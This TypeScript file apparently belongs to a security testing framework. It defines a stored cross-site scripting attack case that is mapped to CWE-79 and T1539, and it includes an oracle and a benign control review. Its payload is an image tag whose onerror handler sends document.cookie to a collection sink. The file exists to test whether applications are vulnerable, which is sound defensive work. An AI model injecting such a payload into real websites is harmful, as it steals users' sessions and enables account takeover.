import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Leaves a review that steals the cookie of everybody who reads it. */
export const xssReviewStored: Attack = defineAttack({
  id: 'xss-review-stored',
  class: 'xss',
  title: 'Leaves a review that steals the cookie of everybody who reads it',
  cwe: 79,
  capec: 592,
  technique: 'T1539',
  preconditions: ['somebody who is logged in reads the page'],

  steps: async ({ visitor, victim, sink }) => {
    const text = `Great tent <img src=x onerror="fetch('${sink.url('loot?c=')}'+encodeURIComponent(document.cookie))">`
    await visitor.form('/product/2/review', { stars: '5', text })
    await (await victim('admin')).open('/product/2')
  },
  oracle: (_nothing, { sink }) => sink.hits().some((hit) => hit.path.includes('sid%3D')),
  twin: ({ visitor }) =>
    visitor.form('/product/2/review', {
      stars: '4',
      text: 'Good, but on error of mine the image <of the moon> is missing ;-)',
    }),
})
